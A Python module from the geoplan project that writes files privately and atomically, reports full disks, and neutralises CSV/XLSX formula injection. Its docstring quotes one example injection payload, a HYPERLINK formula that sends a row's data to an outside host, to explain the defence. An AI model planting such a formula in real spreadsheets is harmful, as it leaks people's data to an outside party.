"""How geoplan writes its files: private, whole, with spreadsheet cells that stay text.

Every file geoplan writes can hold exact positions of people who must not be found, so:

* **Files are private.** A file is written into a folder of its own (mode ``0700``) next to
  its target, made ``0600`` and then moved over the target in one step (:func:`private_file`):
  no one else can read it, and no reader ever sees half a file. Folders geoplan creates are
  ``0700`` (:func:`private_folder`). The process's umask is never changed (a server writes
  from several threads at once).
* **Cells are text.** A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a
  tab or a carriage return as a formula (``=HYPERLINK("http://.../leak?"&C2)`` sends the row
  away). Every text cell of every CSV and XLSX geoplan writes goes through :func:`safe_cell`,
  which puts a single quote in front of such text (OWASP's rule for CSV injection); numbers
  stay numbers. XLSX cells holding text are stored as text, never as formulas.
* **A full disk says so.** Running out of space (``ENOSPC``) or quota (``EDQUOT``) while writing
  raises :class:`~geoplan.errors.DiskFullError` naming the folder to free space in.
"""

from __future__ import annotations

import errno
import os
import re
import shutil
import tempfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd

from geoplan.errors import DiskFullError

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FILE_MODE = 0o600
"""Files geoplan writes: read and written by their owner only."""
FOLDER_MODE = 0o700
"""Folders geoplan creates: entered by their owner only."""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""
_DISK_FULL = (errno.ENOSPC, errno.EDQUOT)
_DISK_FULL_TEXT = (*(os.strerror(code) for code in _DISK_FULL), "database or disk is full")
"""How a full disk reads when only words are left: the system's, and SQLite's (via GDAL)."""
# Characters XML 1.0 cannot hold: openpyxl refuses a workbook with any of them.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


# --- cells ----------------------------------------------------------------------------------


def safe_text(text: str) -> str:
    """``text``, with a single quote in front when a spreadsheet would run it as a formula.

    Leading spaces do not hide a formula: ``" =1+1"`` is neutralised as well.
    """
    if text.startswith(FORMULA_START) or text.lstrip().startswith(FORMULA_START):
        return "'" + text
    return text


def safe_cell(value: object) -> object:
    """A cell's value as it is written: text through :func:`safe_text`, anything else as it is."""
    return safe_text(value) if isinstance(value, str) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are :func:`safe_text`."""
    out = pd.DataFrame(frame).copy()
    for column in out.columns:
        if _holds_text(out[column]):
            out[column] = out[column].map(safe_cell)
    out.columns = pd.Index([safe_cell(name) for name in out.columns])
    return out


def _holds_text(series: pd.Series) -> bool:
    return series.dtype == object or isinstance(series.dtype, pd.StringDtype | pd.CategoricalDtype)


def append_row(sheet: Worksheet, values: Sequence[object]) -> None:
    """Append a row to an XLSX sheet: text stored as text (never a formula), numbers as numbers.

    Characters that XML cannot hold (control characters other than tab and line breaks) are
    replaced with U+FFFD, so that one odd name cannot stop the workbook from being written.
    """
    sheet.append([_xlsx_value(value) for value in values])
    if values:
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl stores text that starts with = as a formula


def _xlsx_value(value: object) -> object:
    return _XLSX_ILLEGAL.sub("\ufffd", safe_text(value)) if isinstance(value, str) else value


# --- files ----------------------------------------------------------------------------------


def private_folder(folder: Path) -> Path:
    """``folder``, created (with its missing parents) mode ``0700`` if it does not exist.

    Raises
    ------
    DiskFullError
        If the disk is full.
    """
    missing, level = [], folder
    while not level.exists() and level != level.parent:
        missing.append(level)
        level = level.parent
    with disk_full_as_error(level):
        for path in reversed(missing):
            path.mkdir(mode=FOLDER_MODE, exist_ok=True)
    return folder


@contextmanager
def private_file(path: Path) -> Iterator[Path]:
    """A path to write ``path``'s new content to; when the block ends, it becomes ``path``.

    The content is written in a private folder beside ``path``, made mode ``0600`` and moved
    over ``path`` in one step; if the block fails, ``path`` is left as it was.

    Raises
    ------
    DiskFullError
        If the disk fills up while the block writes (``ENOSPC`` or ``EDQUOT``).
    """
    private_folder(path.parent)
    with disk_full_as_error(path.parent):
        staging = Path(tempfile.mkdtemp(prefix=".geoplan-", dir=path.parent))
        try:
            partial = staging / path.name
            yield partial
            partial.chmod(FILE_MODE)
            partial.replace(path)
        finally:
            shutil.rmtree(staging, ignore_errors=True)


def create_private(path: Path) -> bool:
    """Create ``path`` as an empty file, mode ``0600``, unless it exists; True if it was made.

    For files that another library fills in place (SQLite: its journal and write-ahead log
    take the database file's mode).

    Raises
    ------
    DiskFullError
        If the disk is full.
    """
    private_folder(path.parent)
    with disk_full_as_error(path.parent):
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, FILE_MODE))
        except FileExistsError:
            return False
    return True


def write_text(path: Path, text: str) -> Path:
    """Write ``text`` (UTF-8) to ``path`` with :func:`private_file`; return ``path``."""
    with private_file(path) as partial:
        partial.write_text(text, encoding="utf-8")
    return path


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """Write ``frame`` (without its index) as UTF-8 CSV, cells made safe, privately; return ``path``."""
    with private_file(path) as partial:
        safe_frame(frame).to_csv(partial, index=False, encoding="utf-8")
    return path


# --- a full disk ----------------------------------------------------------------------------


def is_disk_full(exc: BaseException) -> bool:
    """Whether ``exc`` (or what caused it) is a full disk or an exhausted quota.

    GDAL reports it in words only, so the system's text for ``ENOSPC`` and ``EDQUOT`` and
    SQLite's for ``SQLITE_FULL`` count too.
    """
    chain: list[BaseException] = []
    seen: BaseException | None = exc
    while seen is not None and seen not in chain:
        chain.append(seen)
        seen = seen.__cause__ or seen.__context__
    return any(_says_disk_full(e) for e in chain)


def _says_disk_full(exc: BaseException) -> bool:
    if isinstance(exc, OSError) and exc.errno in _DISK_FULL:
        return True
    return any(text in str(exc) for text in _DISK_FULL_TEXT)


def disk_full(where: Path | str) -> DiskFullError:
    """The error to raise when the disk holding ``where`` is full."""
    return DiskFullError(f"the disk is full: free space on the disk holding {where} and try again")


@contextmanager
def disk_full_as_error(where: Path | str) -> Iterator[None]:
    """Turn a full disk met in the block into :func:`disk_full`; other errors pass unchanged."""
    try:
        yield
    except DiskFullError:
        raise
    except Exception as exc:
        if is_disk_full(exc):
            raise disk_full(where) from exc
        raise


__all__ = [
    "FILE_MODE",
    "FOLDER_MODE",
    "FORMULA_START",
    "append_row",
    "create_private",
    "disk_full",
    "disk_full_as_error",
    "is_disk_full",
    "private_file",
    "private_folder",
    "safe_cell",
    "safe_frame",
    "safe_text",
    "write_csv",
    "write_text",
]
